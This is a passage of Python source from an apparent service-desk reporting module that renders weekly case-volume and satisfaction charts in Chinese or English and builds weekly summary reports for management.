def _render_chart(community: Community, weeks: Sequence[WeekFigures], locale: str) -> bytes:
    import matplotlib

    matplotlib.use("Agg")  # headless: no display on servers
    from matplotlib.figure import Figure

    font = cjk_font() if locale == "zh-CN" else None
    zh = font is not None
    rc = {"font.family": [font, "DejaVu Sans"]} if zh else {}
    names = {k: code_name("zh-CN" if zh else "en", "kind", k) for k in Kind}
    labels = [f"{w.start:%m-%d}" for w in weeks]
    kinds = [k for k in Kind if any(w.opened.get(k) for w in weeks)] or [Kind.REPORT]
    with matplotlib.rc_context(rc):
        fig = Figure(figsize=(10, 7), dpi=100)
        top, bottom = fig.subplots(2, 1, sharex=True, gridspec_kw={"height_ratios": [3, 2]})
        base = [0] * len(weeks)
        for kind in kinds:
            values = [w.opened.get(kind, 0) for w in weeks]
            top.bar(labels, values, bottom=base, label=names[kind])
            base = [b + v for b, v in zip(base, values)]
        for x, total in enumerate(base):
            top.annotate(str(total), (x, total), ha="center", va="bottom", fontsize=9)
        top.set_ylabel("新增案件" if zh else "Cases opened")
        top.set_ylim(0, max(base + [1]) * 1.15)
        top.legend(loc="upper left", fontsize=8, ncols=min(len(kinds), 5))
        title = f"{community.name} 近{len(weeks)}周" if zh else f"{community.code}: last {len(weeks)} weeks"
        top.set_title(title)

        def series(get: Callable[[st.Satisfaction], float | None]) -> list[float]:
            return [v if (v := get(w.satisfaction)) is not None else float("nan") for w in weeks]

        bottom.plot(labels, series(lambda s: s.mean_speed), marker="o", label="速度" if zh else "Speed")
        bottom.plot(labels, series(lambda s: s.mean_attitude), marker="s", label="态度" if zh else "Attitude")
        bottom.set_ylim(0.8, 5.2)
        bottom.set_ylabel("满意度 (1–5)" if zh else "Satisfaction (1-5)")
        solved = bottom.twinx()
        solved.plot(labels, [v * 100 for v in series(lambda s: s.solved_rate)], color="tab:green",
                    linestyle="--", marker="^", label="解决率 %" if zh else "Solved %")
        solved.set_ylim(0, 105)
        solved.set_ylabel("%")
        handles = bottom.get_legend_handles_labels()
        extra = solved.get_legend_handles_labels()
        bottom.legend(handles[0] + extra[0], handles[1] + extra[1], loc="lower left", fontsize=8, ncols=3)
        bottom.set_xlabel("周（周一起）" if zh else "Week starting (Monday)")
        fig.tight_layout()
        buf = io.BytesIO()
        fig.savefig(buf, format="png")
    return buf.getvalue()


async def period_summary(session: AsyncSession, community: Community, start: date, end: date, now: datetime, *,
                         locale: str = "zh-CN", weekly: bool = False) -> tuple[str, bytes]:
    """The chat summary of [start, end) (local dates, end exclusive) as of `now`, and its chart.

    The chart shows the 8 weeks ending with the one holding the period's last day (for
    this week so far, the week under way is the last bar).  It is drawn in a worker
    thread: the desk's other chats are not held up while matplotlib works.
    """
    ctx = await open_context(session, community.code, start, end, now)
    figures, cover = await ctx.overall(), await ctx.coverage()
    opened = Counter(kind for _, kind in await q.created_times(session, community.id, ctx.start, ctx.end))
    # Compared with the same weekdays earlier (this week so far against the same days of
    # last week; a week against the week before), never a weekend against working days.
    shift = timedelta(weeks=-(-(end - start).days // 7))
    before = st.local_bounds(start - shift, end - shift, community.policy.timezone)
    prior = len(await q.created_times(session, community.id, *before))
    backlog = await ctx.backlog()
    text = summary_text(locale, community, start, end, ctx.as_of, opened, prior, figures, cover, weekly=weekly,
                        backlog=backlog)
    last_day = end - timedelta(days=1)
    # Any moment of the following week: weekly_figures charts the complete weeks before it.
    following = datetime.combine(last_day + timedelta(days=7), datetime.min.time(), ctx.zone)
    weeks = await weekly_figures(session, community, following)
    return text, await asyncio.to_thread(render_chart, community, weeks, locale)


def last_week(now: datetime, community: Community) -> tuple[date, date]:
    """The last complete week (Monday to Monday, local) before `now`."""
    edges = st.week_starts(now, community.policy.timezone, 1)
    return edges[0].date(), edges[1].date()


async def weekly_report(uow: UnitOfWork, now: datetime, community: str | None = None,
                        locale: str = "zh-CN") -> tuple[str, bytes]:
    """The weekly summary text and its chart (PNG) for the last complete week.

    Called for the weekly push to the management group and by managers asking in chat;
    the 8 complete weeks before `now`'s week are charted, the last of them is summarised.
    """
    async with uow:
        await uow.read_only()
        info = await q.community(uow.session, community)
        if info is None:
            raise NotFound(f"no community {community!r}" if community else "no community loaded")
        start, end = last_week(now, info)
        return await period_summary(uow.session, info, start, end, now, locale=locale, weekly=True)
